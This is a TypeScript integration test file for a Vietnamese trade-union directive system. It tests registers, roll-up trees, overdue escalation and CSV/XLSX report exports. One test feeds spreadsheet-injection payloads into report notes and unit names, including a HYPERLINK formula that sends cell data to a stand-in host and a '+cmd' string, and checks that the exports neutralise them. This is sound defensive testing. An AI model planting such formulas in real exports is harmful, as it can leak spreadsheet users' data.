/**
 * Secretariat dashboards from PostgreSQL: outgoing and incoming registers (filters, accent-insensitive search,
 * keyset pagination), a directive's routing tree with roll-ups per subtree, the overdue list across directives with
 * the escalation level, and the aggregated report exported as CSV and XLSX.
 */
import { INestApplication, INestApplicationContext } from '@nestjs/common';
import ExcelJS from 'exceljs';
import request from 'supertest';
import { parse as parseCsv } from 'csv-parse/sync';
import { startApi, startWorker } from './support/apps';
import { newKey } from './support/ids';
import { addMember, auth, buildOrg, importUnitsUnderA, SIGNING_AUTHORITY, type Org } from './support/org';
import { Client as PgClient } from 'pg';
import { rollupDrift } from '@cascade/persistence';
import { rawDb } from './support/plans';
import { expectNoRollupDrift } from './support/rollup';
import { waitFor } from './support/wait-for';

jest.setTimeout(240_000);

let api: INestApplication;
let worker: INestApplicationContext;
let org: Org;
const http = () => request(api.getHttpServer());
const post = (path: string, token: string, body: object) =>
  http().post(path).set(auth(token)).set('Idempotency-Key', newKey()).send(body);
const get = (path: string, token: string) => http().get(path).set(auth(token));
const binary = (res: request.Response, done: (e: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => done(null, Buffer.concat(chunks)));
};

const member = (unitId: string, role: string, extra: object = {}) => addMember(api, org, unitId, role, extra);

let id: Record<string, string>;
let clerk: string;
let leader: { id: string; token: string };
const form = {
  fields: [
    { key: 'sessions', label: 'Số buổi', type: 'integer', required: true, min: 0, aggregate: 'sum' },
    { key: 'done', label: 'Đã quán triệt', type: 'boolean', required: true, aggregate: 'countTrue' },
  ],
};

async function issue(subject: string, reporting?: object): Promise<string> {
  const created = await post('/directives', clerk, {
    issuerId: id.P,
    type: 'KH',
    subject,
    tasks: ['Triển khai.'],
    addressees: { mode: 'subtree', depth: 2 },
    ...(reporting ? { reporting } : {}),
  }).expect(201);
  const directiveId = created.body.id as string;
  await post(`/directives/${directiveId}/submit`, clerk, { version: 1 }).expect(200);
  await post(`/directives/${directiveId}/review`, leader.token, { version: 1, decision: 'approve' }).expect(
    200,
  );
  await post(`/directives/${directiveId}/sign`, leader.token, { version: 1 }).expect(200);
  await waitFor(
    'the dispatch',
    async () => (await get(`/directives/${directiveId}`, clerk)).body.status === 'dispatched',
  );
  return directiveId;
}

beforeAll(async () => {
  [api, worker] = await Promise.all([startApi(), startWorker()]);
  org = await buildOrg(api);
  id = await importUnitsUnderA(api, org, [
    ['P', 'federation', null],
    ['D1', 'federation', 'P'],
    ['G1', 'grassroots_union', 'D1'],
    ['G2', 'grassroots_union', 'D1'],
    ['D2', 'federation', 'P'],
    ['G3', 'grassroots_union', 'D2'],
  ]);
  clerk = (await member(id.P, 'clerk')).token;
  leader = await member(id.P, 'leader', SIGNING_AUTHORITY);
  await http()
    .put(`/units/${id.P}/review-chain`)
    .set(auth(org.admin))
    .send({ reviewerIds: [leader.id] })
    .expect(200);
});

afterAll(async () => {
  await worker?.close();
  await api?.close();
});

describe('secretariat dashboards', () => {
  it('lists registers, rolls up the tree, ranks overdue units and exports the aggregate', async () => {
    const older = await issue('Kế hoạch tuyên truyền Giải Búa liềm vàng lần thứ V');
    const directiveId = await issue('Hướng dẫn tổ chức Đại hội Công đoàn cơ sở', {
      schedule: { kind: 'interval', everySeconds: 4, count: 1 },
      stagger: [0, 2, 4],
      form,
      escalation: { parentAfter: 'PT1S' },
    });
    const g1 = (await member(id.G1, 'clerk')).token;
    const r = await post(`/directives/${directiveId}/reports`, g1, {
      unitId: id.G1,
      cycle: 0,
      values: { sessions: 3, done: true },
    });
    expect(r.status).toBe(201);

    // Outgoing register: newest first, accent-insensitive words, filters, keyset pages.
    const out = await get(`/registers/outgoing?unitId=${id.P}`, clerk).expect(200);
    expect(out.body.items.map((i: { id: string }) => i.id)).toEqual([directiveId, older]);
    expect(out.body.items[0].routing).toEqual({ total: 6 - 1, delivered: 5, accepted: 0, returned: 0 });
    const found = await get(
      `/registers/outgoing?unitId=${id.P}&q=${encodeURIComponent('bua LIEM vang')}`,
      clerk,
    );
    expect(found.body.items.map((i: { id: string }) => i.id)).toEqual([older]);
    const none = await get(`/registers/outgoing?unitId=${id.P}&q=xyz&type=KH&status=dispatched`, clerk);
    expect(none.body.items).toEqual([]);
    const first = await get(`/registers/outgoing?unitId=${id.P}&limit=1`, clerk);
    const second = await get(
      `/registers/outgoing?unitId=${id.P}&limit=1&cursor=${first.body.nextCursor}`,
      clerk,
    );
    expect([first.body.items[0].id, second.body.items[0].id]).toEqual([directiveId, older]);
    expect(second.body.nextCursor).toBeNull();
    const bad = await get(`/registers/outgoing?unitId=${id.P}&cursor=garbage`, clerk);
    expect(bad.status).toBe(400);
    expect(bad.body.error.message).toMatch(/^cursor:/);

    // Incoming register of a grassroots union.
    const incoming = await get(`/registers/incoming?unitId=${id.G1}`, g1).expect(200);
    expect(incoming.body.items.map((i: { id: string }) => i.id)).toEqual([directiveId, older]);
    expect(incoming.body.items[0]).toMatchObject({ nodeStatus: 'delivered', statusCode: '01', isHub: false });

    // The tree, one level at a time, with roll-ups per subtree for cycle 0.
    const top = await get(`/directives/${directiveId}/tree?cycle=0`, clerk).expect(200);
    const d1 = top.body.items.find((i: { unitId: string }) => i.unitId === id.D1);
    const d2 = top.body.items.find((i: { unitId: string }) => i.unitId === id.D2);
    expect(d1).toMatchObject({
      nodes: 3,
      expected: 2,
      onTime: 1,
      late: 0,
      missing: 1,
      shareOnTime: '0.5000',
    });
    expect(d2).toMatchObject({ nodes: 2, expected: 1, onTime: 0, missing: 1 });
    const below = await get(`/directives/${directiveId}/tree?parentUnitId=${id.D1}&limit=1`, clerk).expect(
      200,
    );
    expect(below.body.items).toHaveLength(1);
    expect(below.body.nextCursor).toBe(below.body.items[0].unitId);

    // The roll-ups are the triggers' counters (routing_rollup, report_rollup): they match the rows, and a counter
    // made wrong shows in the tree and in the drift check (which can fail), then is put right.
    await expectNoRollupDrift(directiveId);
    const pg = new PgClient({ connectionString: process.env.DATABASE_URL });
    await pg.connect();
    const skew = (by: number) =>
      pg.query(`UPDATE routing_rollup SET nodes = nodes + $3 WHERE directive_id = $1 AND hub_unit_id = $2`, [
        directiveId,
        id.D1,
        by,
      ]);
    try {
      await skew(5);
      const skewed = await get(`/directives/${directiveId}/tree?cycle=0`, clerk).expect(200);
      expect(skewed.body.items.find((i: { unitId: string }) => i.unitId === id.D1).nodes).toBe(8);
      expect(await rollupDrift(rawDb(pg), directiveId)).toEqual([
        `hub ${id.D1}: nodes/delivered/accepted/returned/expected 7/2/0/0/2, counted 2/2/0/0/2`,
      ]);
    } finally {
      await skew(-5);
      await pg.end();
    }
    await expectNoRollupDrift(directiveId);

    // The overdue list: G2 and G3 never report; ranked by lateness, with the ladder level.
    const overdue = await waitFor(
      'G2 and G3 escalated to their parents',
      async () => {
        const res = await get(`/overdue?unitId=${id.P}`, clerk);
        const mine = res.body.items.filter((i: { directiveId: string }) => i.directiveId === directiveId);
        return mine.length === 2 && mine.every((i: { level: string }) => i.level === 'parent') && mine;
      },
      { timeoutMs: 60_000 },
    );
    expect(overdue.map((i: { unitId: string }) => i.unitId).sort()).toEqual([id.G2, id.G3].sort());
    expect(overdue[0].lateSeconds).toBeGreaterThanOrEqual(0);
    const d2Clerk = (await member(id.D2, 'clerk')).token;
    const d2View = await get(`/overdue?unitId=${id.D2}`, d2Clerk).expect(200);
    expect(d2View.body.items.map((i: { unitId: string }) => i.unitId)).toEqual([id.G3]);
    expect((await get(`/overdue?unitId=${id.P}`, d2Clerk)).status).toBe(404); // above its scope
    // Pages by cursor, not by offset: an offset is an unknown field (400 naming it); a page of one names the next.
    const far = await get(`/overdue?unitId=${id.P}&offset=100000`, clerk).expect(400);
    expect(far.body.error.message).toContain('offset');
    const one = await get(`/overdue?unitId=${id.P}&limit=1`, clerk).expect(200);
    expect(one.body.items).toHaveLength(1);
    const rest = await get(
      `/overdue?unitId=${id.P}&cursor=${encodeURIComponent(one.body.nextCursor)}`,
      clerk,
    ).expect(200);
    const entry = (i: { directiveId: string; unitId: string; cycle: number }) =>
      `${i.directiveId}/${i.unitId}/${i.cycle}`;
    expect(rest.body.items.map(entry)).not.toContain(entry(one.body.items[0]));

    // The units that have not reported, page by page: D1's subtree, then the issuer's whole tree.
    const missingAtD1 = await get(
      `/directives/${directiveId}/aggregate/missing?unitId=${id.D1}&cycle=0`,
      clerk,
    );
    expect(missingAtD1.body).toEqual({ items: [{ unitId: id.G2 }], nextCursor: null });
    const firstMissing = await get(
      `/directives/${directiveId}/aggregate/missing?unitId=${id.P}&cycle=0&limit=1`,
      clerk,
    ).expect(200);
    const restMissing = await get(
      `/directives/${directiveId}/aggregate/missing?unitId=${id.P}&cycle=0&cursor=${firstMissing.body.nextCursor}`,
      clerk,
    ).expect(200);
    expect(
      [...firstMissing.body.items, ...restMissing.body.items].map((u: { unitId: string }) => u.unitId),
    ).toEqual([id.G2, id.G3].sort());
    expect(restMissing.body.nextCursor).toBeNull();
    const aggregate = await get(`/directives/${directiveId}/aggregate?unitId=${id.P}&cycle=0`, clerk).expect(
      200,
    );
    expect(aggregate.body.coverage.missingUnits).toEqual([id.G2, id.G3].sort());
    expect(aggregate.body.missingCursor).toBeNull();

    // The aggregated report at D1 as CSV and XLSX.
    const csv = await get(
      `/directives/${directiveId}/aggregate/export?unitId=${id.D1}&cycle=0&format=csv`,
      clerk,
    );
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    expect(csv.headers['content-disposition']).toMatch(/attachment; filename=".+\.csv"/);
    const lines = csv.text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toBe('Mã đơn vị,Đơn vị,Tình trạng,Số buổi,Đã quán triệt');
    expect(lines).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/-G1,Đơn vị G1,đúng hạn,3,có$/),
        expect.stringMatching(/-G2,Đơn vị G2,chưa báo cáo,,$/),
        expect.stringMatching(/^TỔNG HỢP,.*,3,1$/),
      ]),
    );
    const xlsx = await http()
      .get(`/directives/${directiveId}/aggregate/export?unitId=${id.D1}&cycle=0&format=xlsx`)
      .set(auth(clerk))
      .buffer(true)
      .parse(binary)
      .expect(200);
    expect(xlsx.headers['content-type']).toMatch(/spreadsheetml/);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.body as never);
    const sheet = book.worksheets[0];
    expect(sheet.getRow(4).getCell(1).value).toBe('Mã đơn vị');
    expect(sheet.getRow(sheet.rowCount).getCell(1).value).toBe('TỔNG HỢP');
  });
});

// Last: it issues a directive and adds units under P, which the dashboards' counts above must not see.
describe('exports a spreadsheet opens', () => {
  it('escapes every text a spreadsheet would run, in the aggregate (and its total row) and the unit export', async () => {
    const formulas = ['=HYPERLINK("http://x.example/?"&B5,"Xem")', '=1+1', '+cmd', '-2+3', '@SUM(1)'];
    const directiveId = await issue('Báo cáo có nội dung tự do', {
      schedule: { kind: 'interval', everySeconds: 600, count: 1 },
      stagger: [0, 30, 60],
      form: {
        fields: [{ key: 'note', label: 'Ghi chú', type: 'text', required: true, aggregate: 'collect' }],
      },
    });
    const g1 = (await member(id.G1, 'clerk')).token;

    // The registers' deadline: going out, the cycle's last (the issuer's own); coming in, the unit's by its tier until
    // it has reported; none for a directive whose deadlines have passed or that asks for no report.
    const [cycle] = (await get(`/directives/${directiveId}/cycles?count=1`, clerk).expect(200)).body.cycles;
    const tierAt = (tier: number): string => cycle.deadlines[Math.min(tier, cycle.deadlines.length - 1)].at;
    const deadlines = async (kind: 'outgoing' | 'incoming', unitId: string, token: string) =>
      Object.fromEntries(
        (await get(`/registers/${kind}?unitId=${unitId}&limit=100`, token).expect(200)).body.items.flatMap(
          (i: { id: string; subject: string; deadline: string | null }) => [
            [i.id, i.deadline],
            [i.subject, i.deadline],
          ],
        ),
      );
    // the worker stores the cycle as it plans it, moments after the dispatch
    await waitFor(
      'cycle 0 stored',
      async () => (await deadlines('outgoing', id.P, clerk))[directiveId] !== null,
    );
    const outgoing = await deadlines('outgoing', id.P, clerk);
    expect(new Set(cycle.deadlines.map((d: { at: string }) => d.at)).size).toBe(3);
    expect(outgoing[directiveId]).toBe(cycle.deadlines.at(-1).at);
    expect(outgoing['Kế hoạch tuyên truyền Giải Búa liềm vàng lần thứ V']).toBeNull(); // no report asked
    expect((await deadlines('incoming', id.G1, g1))[directiveId]).toBe(tierAt(0));
    const d1 = (await member(id.D1, 'clerk')).token;
    expect((await deadlines('incoming', id.D1, d1))[directiveId]).toBe(tierAt(1));

    await post(`/directives/${directiveId}/reports`, g1, {
      unitId: id.G1,
      cycle: 0,
      values: { note: formulas[0] },
    }).expect(201);
    // reported: G1 owes nothing more; G3, which has not, still sees its deadline
    expect((await deadlines('incoming', id.G1, g1))[directiveId]).toBeNull();
    const g3 = (await member(id.G3, 'clerk')).token;
    expect((await deadlines('incoming', id.G3, g3))[directiveId]).toBe(tierAt(0));
    const g2 = (await member(id.G2, 'clerk')).token;
    await post(`/directives/${directiveId}/reports`, g2, {
      unitId: id.G2,
      cycle: 0,
      values: { note: formulas[1] },
    }).expect(201);
    const csv = await get(
      `/directives/${directiveId}/aggregate/export?unitId=${id.D1}&cycle=0&format=csv`,
      clerk,
    ).expect(200);
    const cells: string[][] = parseCsv(csv.text.replace(/^\uFEFF/, ''), { relax_column_count: true });
    const notes = cells.slice(1).map((row) => row[3]);
    expect(notes).toEqual(expect.arrayContaining([`'${formulas[0]}`, `'${formulas[1]}`]));
    const total = cells.find((row) => row[0] === 'TỔNG HỢP')!;
    expect(total[3].startsWith("'=")).toBe(true); // the collected texts, led by a formula
    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // units named like formulas come out inert in the unit export
    for (const [i, name] of formulas.entries()) {
      await http()
        .post('/units')
        .set(auth(org.admin))
        .set('Idempotency-Key', newKey())
        .send({ code: `${org.prefix}-F${i}`, name, kind: 'grassroots_union', parentId: id.D2 })
        .expect(201);
    }
    const units = await get(`/units/export?format=csv&under=${id.D2}`, org.admin).expect(200);
    const rows: { name: string }[] = parseCsv(units.text, { columns: true });
    for (const name of formulas) expect(rows.map((r) => r.name)).toContain(`'${name}`);
    for (const r of rows) expect(r.name).not.toMatch(/^[=+\-@\t\r]/);
  });
});
